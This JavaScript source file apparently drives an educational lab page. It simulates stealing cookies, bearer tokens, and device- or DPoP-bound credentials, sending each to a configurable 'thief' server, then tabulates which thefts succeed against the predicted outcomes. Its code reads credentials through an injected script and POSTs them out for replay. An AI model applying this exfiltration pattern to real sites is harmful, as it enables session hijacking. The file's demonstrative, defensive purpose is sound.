// @ts-check
// The page of the drill: four credentials, each stolen in four ways, and what came of it.

import * as injected from "./injected.js";
import { ME, begin, door, end, use } from "./owner.js";
import { clear } from "./storage.js";

/** @import { Answer, Credential, Drill } from "./owner.js" */

/** @typedef {"read" | "in-place" | "copy" | "log"} Way */
/** @typedef {"opened" | "expires" | "stopped" | "missing"} Outcome */
/** @typedef {{ outcome: Outcome, attempts: string[] }} Result */
/** @typedef {(way: Way, result: Result) => void} Tell */

/** A cookie that is not HttpOnly: if a script cannot read this one, that it reads no other means nothing. */
const CONTROL = "lab-theft-readable";
/** The short cookie, as the real door knows it. */
const SHORT = "__Host-bound";
/** How long a browser may take to register a key, and for how long the end of the short cookie is waited for. */
const REGISTERED_WITHIN = 3000;
const ENDED_WITHIN = 12_000;

/** What the browser or this address lacks for a credential. */
class Missing extends Error {}

/** @param {number} milliseconds */
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** What was sent, and the answer. @param {Answer} answer */
const shown = ({ sent, status, code }) => `${sent.join(", ") || "nothing"}: ${status}${code ? ` ${code}` : ""}`;

/** @param {boolean} opened @returns {Outcome} */
const outcome = (opened) => (opened ? "opened" : "stopped");

/** The sixteen attempts, against the thief's server at `thief`. */
class Theft {
  /** @param {string} thief @param {boolean} https */
  constructor(thief, https) {
    this.thief = thief;
    this.https = https;
  }

  /** @param {Credential} credential @param {Tell} tell */
  async run(credential, tell) {
    if (credential === "bound-cookie" && !this.https) throw new Missing();
    if (credential === "bound-token" && !globalThis.crypto?.subtle) throw new Missing();
    const drill = await begin(credential);
    try {
      if (credential === "cookie") await this.#cookie(drill, tell);
      if (credential === "token") await this.#token(drill, tell);
      if (credential === "bound-cookie") await this.#boundCookie(drill, tell);
      if (credential === "bound-token") await this.#boundToken(drill, tell);
    } finally {
      await Promise.allSettled([end(drill), clear()]);
    }
  }

  /** Without that the owner is let in, a refusal of the thief would mean nothing. @param {Drill} drill */
  async #uses(drill) {
    const answer = await use(drill);
    if (!answer.opened) throw new Error(`The owner was refused: ${shown(answer)}.`);
  }

  /** What the thief's server gets with the copy or the log. @param {Drill} drill @param {"copy" | "log"} from */
  async #steal({ drill }, from) {
    const response = await fetch(`${this.thief}/lab/theft/steal/${drill}?from=${from}`, { method: "POST" });
    if (!response.ok) throw new Error(`The thief's server answered ${response.status}.`);
    return /** @type {Promise<Answer>} */ (response.json());
  }

  /** @param {Drill} drill @param {injected.Loot} loot @returns {Promise<Answer>} */
  #sendAway(drill, loot) {
    return injected.sendAway(this.thief, drill.drill, loot);
  }

  /** @param {Drill} drill @param {Tell} tell */
  async #cookie(drill, tell) {
    await this.#uses(drill);
    tell("read", await this.#readCookies(drill));
    const [copy, log] = [await this.#steal(drill, "copy"), await this.#steal(drill, "log")];
    tell("copy", { outcome: outcome(copy.opened), attempts: [shown(copy)] });
    tell("log", { outcome: outcome(log.opened), attempts: [shown(log)] });
    await this.#callInPlace(drill, tell);
  }

  /** @param {Drill} drill @returns {Promise<Result>} */
  async #readCookies(drill) {
    document.cookie = `${CONTROL}=1; Path=/lab/theft; Max-Age=60; SameSite=Lax`;
    const read = await injected.readCookies();
    document.cookie = `${CONTROL}=; Path=/lab/theft; Max-Age=0; SameSite=Lax`;
    const isReading = read.some(([name]) => name === CONTROL);
    if (!isReading) throw new Error("The script could not read the cookie that is readable.");
    const cookies = read.filter(([name]) => name.startsWith("lab-theft-") && name !== CONTROL);
    const answer = await this.#sendAway(drill, { cookies });
    return { outcome: outcome(answer.opened), attempts: [`read: ${cookies.length} cookies`, shown(answer)] };
  }

  /** @param {Drill} drill @param {Tell} tell */
  async #callInPlace(drill, tell) {
    const answer = /** @type {Answer} */ (await injected.callWithCookies(door(drill)));
    tell("in-place", { outcome: outcome(answer.opened), attempts: [shown(answer)] });
  }

  /** @param {Drill} drill @param {Tell} tell */
  async #token(drill, tell) {
    await this.#uses(drill);
    const read = await this.#sendAway(drill, bearer(injected.readToken()));
    tell("read", { outcome: outcome(read.opened), attempts: [shown(read)] });
    const { status } = await injected.callWithToken(ME);
    tell("in-place", { outcome: outcome(status === 200), attempts: [`Authorization: ${status}`] });
    const { local } = await injected.copyStorage();
    const copy = await this.#sendAway(drill, bearer(local["lab-theft"] ?? null));
    tell("copy", { outcome: outcome(copy.opened), attempts: [shown(copy)] });
    const log = await this.#steal(drill, "log");
    tell("log", { outcome: outcome(log.opened), attempts: [shown(log)] });
  }

  /** @param {Drill} drill @param {Tell} tell */
  async #boundCookie(drill, tell) {
    const began = performance.now();
    while (!(await use(drill)).sent.includes(SHORT)) {
      if (performance.now() - began > REGISTERED_WITHIN) throw new Missing();
      await pause(100);
    }
    await this.#uses(drill);
    tell("read", await this.#readCookies(drill));
    await this.#callInPlace(drill, tell);
    const [copy, log] = [await this.#steal(drill, "copy"), await this.#steal(drill, "log")];
    const since = performance.now();
    let later = copy;
    while (later.opened && performance.now() - since < ENDED_WITHIN) {
      await pause(500);
      later = await this.#steal(drill, "copy");
    }
    const seconds = `after ${((performance.now() - since) / 1000).toFixed(1)} s`;
    tell("copy", soonAndLater(copy, later, seconds));
    tell("log", soonAndLater(log, await this.#steal(drill, "log"), seconds));
  }

  /** @param {Drill} drill @param {Tell} tell */
  async #boundToken(drill, tell) {
    await this.#uses(drill);
    const found = await injected.readBoundToken();
    if (!found) throw new Error("The script could not read the token.");
    const key = found.key instanceof Error ? found.key.name : "exported";
    const asBearer = await this.#sendAway(drill, bearer(found.token));
    const signed = await this.#withOwnKey(drill, found.token);
    tell("read", {
      outcome: key === "exported" ? "opened" : outcome(asBearer.opened || signed.opened),
      attempts: [`export of the key: ${key}`, shown(asBearer), `with another key, ${shown(signed)}`],
    });

    const { status } = await injected.callWithBoundToken(ME, drill.nonce);
    tell("in-place", { outcome: outcome(status === 200), attempts: [`Authorization, DPoP: ${status}`] });

    const { bound } = await injected.copyStorage();
    if (!bound) throw new Error("The copy of the storage has no token.");
    const members = Object.keys(bound.keys["privateKey"] ?? {}).length;
    const bare = await this.#sendAway(drill, { authorization: `DPoP ${bound.token}` });
    const own = await this.#withOwnKey(drill, bound.token);
    tell("copy", {
      outcome: outcome(bare.opened || own.opened),
      attempts: [`members of the copied key: ${members}`, shown(bare), `with another key, ${shown(own)}`],
    });

    const log = await this.#steal(drill, "log");
    tell("log", { outcome: outcome(log.opened), attempts: [shown(log)] });
  }

  /** @param {Drill} drill @param {string} token */
  async #withOwnKey(drill, token) {
    const proof = await injected.proveWithOwnKey(ME, token, drill.nonce);
    return this.#sendAway(drill, { authorization: `DPoP ${token}`, proof });
  }
}

/** @param {string | null} token */
function bearer(token) {
  return token === null ? {} : { authorization: `Bearer ${token}` };
}

/** @param {Answer} soon @param {Answer} later @param {string} when @returns {Result} */
function soonAndLater(soon, later, when) {
  /** @type {Outcome} */
  const result = soon.opened && !later.opened ? "expires" : outcome(soon.opened);
  return { outcome: result, attempts: [`at once, ${shown(soon)}`, `${when}, ${shown(later)}`] };
}

/** @param {HTMLElement} root */
function initPage(root) {
  const { thief = "", https, outcomes = "{}" } = root.dataset;
  const theft = new Theft(thief, https === "true");
  const titles = JSON.parse(outcomes);
  const button = /** @type {HTMLButtonElement | null} */ (root.querySelector("[data-drill=run]"));
  const status = root.querySelector("[data-drill=status]");
  const cells = /** @type {HTMLElement[]} */ ([...root.querySelectorAll("td[data-way]")]);
  /** @param {Credential} credential */
  const column = (credential) => cells.filter(({ dataset }) => dataset["credential"] === credential);
  /** @param {string} text */
  const say = (text) => {
    if (status) status.textContent = text;
  };

  /** @param {HTMLElement} cell @param {Result} result */
  function show(cell, { outcome, attempts }) {
    cell.dataset["observed"] = outcome;
    const observed = /** @type {HTMLElement} */ (cell.querySelector("[data-drill=observed]"));
    observed.dataset["outcome"] = outcome;
    observed.dataset["same"] = String(outcome === "missing" || outcome === cell.dataset["predicted"]);
    observed.textContent = outcome === "missing" ? "Not run" : titles[outcome];
    const list = cell.querySelector("[data-drill=attempts]");
    const items = attempts.map((text) => Object.assign(document.createElement("li"), { textContent: text }));
    list?.querySelector("ul")?.replaceChildren(...items);
    list?.toggleAttribute("hidden", attempts.length === 0);
  }

  /** @param {Credential} credential */
  async function runColumn(credential) {
    /** @type {Tell} */
    const tell = (way, result) => {
      const cell = column(credential).find(({ dataset }) => dataset["way"] === way);
      if (cell) show(cell, result);
    };
    try {
      await theft.run(credential, tell);
    } catch (error) {
      if (!(error instanceof Missing)) throw error;
      for (const cell of column(credential)) {
        show(cell, { outcome: "missing", attempts: [cell.dataset["needs"] ?? ""] });
      }
    }
  }

  async function runAll() {
    button?.setAttribute("aria-busy", "true");
    if (button) button.disabled = true;
    delete root.dataset["ran"];
    say("Stealing…");
    /** @type {Credential[]} */
    const credentials = ["cookie", "token", "bound-token", "bound-cookie"];
    try {
      for (const credential of credentials) {
        if (credential === "bound-cookie" && theft.https) say("Waiting until the short cookie ends…");
        await runColumn(credential);
      }
      say(tally(cells));
      root.dataset["ran"] = "";
    } catch (error) {
      say(`Stopped: ${error instanceof Error ? error.message : error} Try again in a moment.`);
    } finally {
      button?.removeAttribute("aria-busy");
      if (button) button.disabled = false;
    }
  }

  button?.addEventListener("click", runAll);
  if (button) button.disabled = false;
  root.dataset["ready"] = "";
}

/** @param {HTMLElement[]} cells */
function tally(cells) {
  /** @param {(cell: HTMLElement) => boolean} test */
  const count = (test) => cells.filter(test).length;
  const missing = count(({ dataset }) => dataset["observed"] === "missing");
  const same = count(({ dataset }) => dataset["observed"] === dataset["predicted"]);
  const different = cells.length - missing - same;
  const parts = [`${same} of ${cells.length} cells are as predicted.`];
  if (different > 0) parts.push(`${different} are not.`);
  const [first] = cells.filter(({ dataset }) => dataset["observed"] === "missing");
  if (first) parts.push(`${missing} could not be run. ${first.dataset["needs"]}`);
  return parts.join(" ");
}

const root = /** @type {HTMLElement | null} */ (document.querySelector("[data-drill=page]"));
if (root) initPage(root);
